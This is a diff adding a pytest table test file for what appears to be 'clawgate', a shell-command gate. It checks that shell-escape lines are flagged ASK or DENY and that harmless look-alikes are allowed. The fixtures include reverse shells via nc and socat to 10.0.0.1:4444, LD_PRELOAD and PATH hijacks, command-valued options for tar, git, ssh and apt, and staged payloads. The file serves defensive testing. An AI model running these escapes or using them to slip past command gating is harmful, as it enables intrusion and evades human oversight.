@@ -1,0 +1,147 @@
+"""Table tests of the shell-escape family (CG-ESC-*): generalised patterns and look-alikes."""
+
+from __future__ import annotations
+
+import pytest
+
+from clawgate.decision import Outcome
+from clawgate.engine import Engine
+from clawgate.shell import parse, parse_one
+from clawgate.validators.base import Context
+from clawgate.validators.escapes import CommandOption, ShellArgument
+from clawgate.validators.staged import StagedPayload
+
+ENGINE = Engine()
+CTX = Context("/tmp/workspace", "/tmp/workspace", "/root")
+ALLOW, ASK, DENY = Outcome.ALLOW, Outcome.ASK, Outcome.DENY
+
+
+def decide(line: str) -> tuple[Outcome, set[str]]:
+    decision = ENGINE.check(line, cwd="/tmp/workspace")
+    return decision.outcome, {r.rule_id for r in decision.reasons}
+
+
+@pytest.mark.parametrize(("line", "expected", "rule"), [
+    # a shell named as an argument or option value
+    ("aa-exec /bin/sh", ASK, None),
+    ("agetty -l /bin/sh -o -p -a root tty", ASK, "CG-ESC-001"),
+    ("newtool --shell=/usr/bin/zsh", ASK, "CG-ESC-001"),
+    ("man '-H/bin/sh #' man", ASK, None),
+    ("busctl --address=unixexec:path=/bin/sh,argv1=-c", ASK, "CG-ESC-001"),
+    ("nc -e /bin/sh 10.0.0.1 4444", DENY, "CG-ESC-001"),
+    ("socat tcp:10.0.0.1:4444 exec:'bash -li',pty", DENY, "CG-ESC-001"),
+    ("cabal exec -- /bin/sh -p", DENY, None),
+    # options whose value is a command
+    ("tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=id", ASK, "CG-ESC-002"),
+    ("certbot renew --pre-hook 'touch /tmp/x'", ASK, "CG-ESC-002"),
+    ("chrome '--gpu-launcher=\"id>/tmp/foo\"'", ASK, "CG-ESC-002"),
+    ("restic --password-command='/opt/x' backup", ASK, "CG-ESC-002"),
+    ("rsync -e 'sh -c id' a b:", DENY, "CG-ESC-001"),
+    ("unison -sshcmd x --rsh='/opt/x' a b", ASK, "CG-ESC-002"),
+    ("tcpdump -i lo -w x -G 1 -z /tmp/x", ASK, "CG-ESC-002"),
+    ("zip out.zip notes.txt -T -TT 'id #'", ASK, "CG-ESC-002"),
+    ("sort --compress-program=/tmp/x big.txt", ASK, "CG-ESC-002"),
+    ("rg --pre ./x TODO", ASK, "CG-ESC-002"),
+    ("split --filter='gzip > $FILE.gz' notes.txt", ASK, "CG-ESC-002"),
+    ("busctl --address=unixexec:path=/usr/bin/id", ASK, "CG-ESC-002"),
+    ("rpm --eval '%(id)'", ASK, "CG-ESC-002"),
+    ("service ../../usr/bin/id", ASK, "CG-ESC-001"),
+    ("psql -o'|id>/tmp/foo'", ASK, "CG-ESC-003"),
+    ("sysctl 'kernel.core_pattern=|/tmp/x'", ASK, "CG-ESC-003"),
+    ("openssl req -engine ./lib.so", ASK, "CG-ESC-004"),
+    ("ssh-keygen -D ./pkcs11.so", ASK, "CG-ESC-004"),
+    ("ffmpeg -i in.wav -af ladspa=file=./x.so out.wav", ASK, "CG-ESC-004"),
+    ("pdflatex --shell-escape doc.tex", ASK, "CG-ESC-005"),
+    ("dvips -R0 texput.dvi", ASK, "CG-ESC-005"),
+    # settings and environment naming commands
+    ("git -c core.pager='id' log", ASK, "CG-ESC-006"),
+    ("git -c alias.x='!id' x", ASK, "CG-ESC-006"),
+    ("git -c core.sshCommand='sh -c id' fetch", ASK, "CG-ESC-006"),
+    ("git --exec-path=. x", ASK, "CG-ESC-006"),
+    ("git config --global core.fsmonitor 'id'", ASK, "CG-ESC-006"),
+    ("hg --config alias.x='!id' x", ASK, "CG-ESC-006"),
+    ("ssh '-oProxyCommand=\"touch /tmp/foo\"' foo@foo", ASK, "CG-ESC-006"),
+    ("apt-get update -o APT::Update::Pre-Invoke::=id", ASK, "CG-ESC-006"),
+    ("PAGER='sh -c \"exec sh 0<&1\"' git -p help", ASK, None),
+    ("LESSOPEN='|/tmp/x %s' less notes.txt", ASK, "CG-ESC-007"),
+    ("LD_PRELOAD=./x.so ls", DENY, "CG-ENV-001"),  # CG-ESC-007 asks too; the deny wins
+    ("PATH=/tmp/evil:$PATH make", ASK, "CG-ENV-002"),
+    ("export EDITOR=/tmp/x", ASK, "CG-ESC-007"),
+    # launchers by nature
+    ("crontab -e", ASK, "CG-ESC-008"),
+    ("run-parts /tmp/dir", ASK, "CG-ESC-008"),
+    ("tmux -S /tmp/sock", ASK, "CG-ESC-009"),
+    ("ranger", ASK, "CG-ESC-009"),
+    ("fzf --bind 'enter:execute(id)'", ASK, "CG-ESC-009"),
+    ("ansible-test shell", ASK, "CG-ESC-010"),
+    ("code tunnel --name x", ASK, "CG-ESC-010"),
+    ("less notes.txt\n!/bin/sh", ASK, None),
+    ("ed\n!id", ASK, None),
+    # staged payloads
+    ("echo 'exec /bin/sh' > /tmp/f\nchmod +x /tmp/f\ntool --hook /tmp/f", ASK, "CG-ESC-011"),
+    ("echo '{\"scripts\":{\"preinstall\":\"id\"}}' > package.json; npm i", ASK, "CG-ESC-011"),
+    ("printf 'make\\n' > run.sh && chmod +x run.sh && ./run.sh", ASK, "CG-ESC-011"),
+    ("echo id > groff; chmod +x groff; GROFF_BIN_PATH=. nroff", ASK, None),
+])
+def test_caught(line: str, expected: Outcome, rule: str | None) -> None:
+    outcome, rules = decide(line)
+    assert outcome is expected, rules
+    if rule is not None:
+        assert rule in rules
+
+
+@pytest.mark.parametrize("line", [
+    "ls -l /bin/sh",
+    "file /bin/bash",
+    "grep -r /bin/sh scripts",
+    "which zsh",
+    "test \"$MY_VAR\" = \"/bin/zsh\"",
+    "docker ps --filter status=running",
+    "git log --oneline --graph",
+    "git -c color.ui=always log",
+    "git -c user.name=x commit -m msg",
+    "git -c core.autocrlf=false status",
+    "cut -d'|' -f1 data.txt",
+    "tr '|' ',' < data.txt",
+    "gcc -shared -o libx.so x.c",
+    "cp build/libx.so dist/",
+    "ldd ./libx.so",
+    "pdflatex doc.tex",
+    "PAGER=cat git log",
+    "GIT_PAGER=less git log",
+    "EDITOR=vim git commit",
+    "PATH=$HOME/.local/bin:$PATH make",
+    "crontab -l",
+    "tmux ls",
+    "fzf --height 40%",
+    "man shell",
+    "less notes.txt",
+    "echo hello > notes.txt && cat notes.txt",
+    "echo 'echo hi' > x.sh",
+    "echo 'the system is up' > status.txt && cat status.txt",
+    "echo 'exec /bin/sh' > note.txt; grep exec note.txt",
+    "mkdir -p build && cd build",
+    "tar -I zstd -cf out.tar.zst dir/",
+    "git config core.editor 'code --wait'",  # --global is high risk (outside the workspace)
+    "git -c core.editor=vim commit",
+    "docker exec app ls",
+])
+def test_harmless_lookalikes(line: str) -> None:
+    outcome, rules = decide(line)
+    assert outcome is ALLOW, rules
+
+
+def test_shell_argument_direct() -> None:
+    assert ShellArgument().check(parse_one("agetty -l /bin/sh tty"), CTX).outcome is ASK
+    assert ShellArgument().check(parse_one("ls /bin/sh"), CTX).outcome is Outcome.PASSTHROUGH
+
+
+def test_command_option_unwraps_the_value() -> None:
+    verdict = CommandOption().check(parse_one("tar -cf x.tar --to-command='bash -i' d"), CTX)
+    assert verdict.outcome is ASK
+    assert verdict.nested == ("bash -i",)
+
+
+def test_staged_payload_needs_a_later_use() -> None:
+    alone = parse("echo 'exec /bin/sh' > /tmp/f")
+    assert StagedPayload().check_line(alone, CTX).outcome is Outcome.PASSTHROUGH
